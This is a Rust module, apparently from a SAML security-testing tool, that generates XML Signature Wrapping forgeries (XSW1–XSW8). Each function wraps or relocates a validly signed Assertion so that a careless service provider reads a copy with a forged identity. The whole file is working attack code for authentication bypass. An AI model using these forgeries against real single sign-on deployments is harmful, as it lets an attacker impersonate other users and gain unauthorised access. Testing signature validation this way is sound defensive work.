//! XML Signature Wrapping, XSW1–XSW8 (Somorovsky et al., "On Breaking SAML", USENIX
//! Security 2012; numbering as SAML Raider's): the signed bytes stay untouched, the tree
//! around them changes so that what a careless SP reads is a forged copy.

use trust_framework::saml::constants::NS_DSIG;

use super::{Crafted, Ctx};
use crate::message::{self, Signing};
use crate::splice::{self, assertion_range, without_signature};
use crate::CraftError;

fn new_id(tag: &str) -> String {
    format!("_forged{tag}{}", rand_hex())
}

fn rand_hex() -> String {
    use rand::RngCore;
    let mut b = [0u8; 8];
    rand::rngs::OsRng.fill_bytes(&mut b);
    hex::encode(b)
}

/// A forged copy of `element`: no signature, the forged identity, a new ID (or the same).
fn forged_copy(c: &Ctx<'_>, element: &str, new_id_too: bool) -> Result<String, CraftError> {
    let copy = splice::set_name_id(&without_signature(element)?, &c.forged)?;
    if new_id_too {
        splice::set_root_attribute(&copy, "ID", &new_id("A"))
    } else {
        Ok(copy)
    }
}

/// The Response signed per `signing`, for the test's identity.
fn signed(c: &Ctx<'_>, signing: Signing) -> Result<String, CraftError> {
    message::build(&c.knobs(), signing, &c.spec())
}

/// XSW1: the Response signed; a signature-less copy of it inside its own Signature; the
/// outer Response gets a new ID and the forged identity.
pub fn xsw1(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = signed(c, Signing::Response)?;
    let copy = without_signature(&xml)?;
    let sig = splice::response_signature_range(&xml)?;
    let sig_text = &xml[sig.clone()];
    let at = splice::before_end_tag(sig_text)?;
    let new_sig = splice::insert(sig_text, at, &copy);
    let outer = splice::replace(&xml, sig, &new_sig);
    let outer = splice::set_root_attribute(&outer, "ID", &new_id("R"))?;
    forge_outer_assertion(c, &outer)
}

/// Forges the Response's own (last, direct-child) Assertion.
fn forge_outer_assertion(c: &Ctx<'_>, xml: &str) -> Result<Crafted, CraftError> {
    let a = last_assertion(xml)?;
    let forged = splice::set_name_id(&xml[a.clone()], &c.forged)?;
    Ok(Crafted::of(splice::replace(xml, a, &forged)))
}

/// XSW2: as XSW1, the copy as a sibling just before the Signature.
pub fn xsw2(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let xml = signed(c, Signing::Response)?;
    let copy = without_signature(&xml)?;
    let sig = splice::response_signature_range(&xml)?;
    let outer = splice::insert(&xml, sig.start, &copy);
    let outer = splice::set_root_attribute(&outer, "ID", &new_id("R"))?;
    forge_outer_assertion(c, &outer)
}

fn last_assertion(xml: &str) -> Result<std::ops::Range<usize>, CraftError> {
    let doc = roxmltree::Document::parse(xml).map_err(|e| CraftError(e.to_string()))?;
    doc.root_element()
        .children()
        .rfind(|n| n.is_element() && n.tag_name().name() == "Assertion")
        .map(|n| n.range())
        .ok_or_else(|| CraftError("no Assertion under the Response".into()))
}

/// XSW3: a forged signature-less copy of the signed Assertion, new ID, before it.
pub fn xsw3(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
    let xml = signed(c, signing)?;
    let a = assertion_range(&xml)?;
    let forged = forged_copy(c, &xml[a.clone()], true)?;
    Ok(Crafted::of(splice::insert(&xml, a.start, &forged)))
}

/// XSW4: the forged copy appended, the signed Assertion moved inside it (last child).
pub fn xsw4(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
    let xml = signed(c, signing)?;
    let a = assertion_range(&xml)?;
    let original = xml[a.clone()].to_owned();
    let forged = forged_copy(c, &original, true)?;
    let at = splice::before_end_tag(&forged)?;
    let nested = splice::insert(&forged, at, &original);
    Ok(Crafted::of(splice::replace(&xml, a, &nested)))
}

/// XSW5: the signed Assertion edited in place (forged identity, new ID, its Signature
/// kept); a clean signature-less copy with the original ID appended to the Response.
pub fn xsw5(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
    let (xml, a, clean, edited) = edited_in_place(c, signing)?;
    let replaced = splice::replace(&xml, a, &edited);
    let at = splice::before_end_tag(&replaced)?;
    Ok(Crafted::of(splice::insert(&replaced, at, &clean)))
}

/// The signed Response, its Assertion's range, a clean signature-less copy of that
/// Assertion, and the Assertion edited in place (forged identity, new ID, Signature kept).
fn edited_in_place(
    c: &Ctx<'_>,
    signing: Signing,
) -> Result<(String, std::ops::Range<usize>, String, String), CraftError> {
    let xml = signed(c, signing)?;
    let a = assertion_range(&xml)?;
    let original = &xml[a.clone()];
    let clean = without_signature(original)?;
    let edited = splice::set_root_attribute(
        &splice::set_name_id(original, &c.forged)?,
        "ID",
        &new_id("A"),
    )?;
    Ok((xml, a, clean, edited))
}

/// XSW6: as XSW5, the clean copy inside the forged Assertion's Signature.
pub fn xsw6(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
    let (xml, a, clean, edited) = edited_in_place(c, signing)?;
    let sig = splice::range(&edited, NS_DSIG, "Signature", None)?;
    let sig_text = &edited[sig.clone()];
    let at = splice::before_end_tag(sig_text)?;
    let new_sig = splice::insert(sig_text, at, &clean);
    Ok(Crafted::of(splice::replace(
        &xml,
        a,
        &splice::replace(&edited, sig, &new_sig),
    )))
}

/// XSW7: an Extensions element before the Assertion holding a forged signature-less copy
/// (`same_id`: the copy keeps the signed Assertion's ID).
pub fn xsw7(c: &Ctx<'_>, signing: Signing, same_id: bool) -> Result<Crafted, CraftError> {
    let xml = signed(c, signing)?;
    let a = assertion_range(&xml)?;
    let forged = forged_copy(c, &xml[a.clone()], !same_id)?;
    let ext = format!("<samlp:Extensions>{forged}</samlp:Extensions>");
    Ok(Crafted::of(splice::insert(&xml, a.start, &ext)))
}

/// XSW8: the signed Assertion edited in place (forged identity, its Signature kept), a
/// clean signature-less copy in a ds:Object of that Signature (`same_id`: both keep the ID).
pub fn xsw8(c: &Ctx<'_>, signing: Signing, same_id: bool) -> Result<Crafted, CraftError> {
    let xml = signed(c, signing)?;
    let a = assertion_range(&xml)?;
    let original = xml[a.clone()].to_owned();
    let clean = without_signature(&original)?;
    let mut edited = splice::set_name_id(&original, &c.forged)?;
    if !same_id {
        edited = splice::set_root_attribute(&edited, "ID", &new_id("A"))?;
    }
    let sig = splice::range(&edited, NS_DSIG, "Signature", None)?;
    let sig_text = &edited[sig.clone()];
    let at = splice::before_end_tag(sig_text)?;
    let new_sig = splice::insert(sig_text, at, &format!("<ds:Object>{clean}</ds:Object>"));
    Ok(Crafted::of(splice::replace(
        &xml,
        a,
        &splice::replace(&edited, sig, &new_sig),
    )))
}
